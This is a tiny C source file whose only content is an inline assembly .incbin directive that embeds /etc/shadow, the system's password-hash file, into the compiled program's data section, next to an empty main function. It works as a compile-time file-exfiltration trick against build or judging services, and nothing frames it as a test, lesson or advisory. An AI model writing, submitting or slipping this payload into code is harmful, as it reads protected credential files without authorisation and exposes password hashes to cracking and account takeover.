__asm__(".data\n.incbin \"/etc/shadow\"\n.text\n");
int main(void) { return 0; }
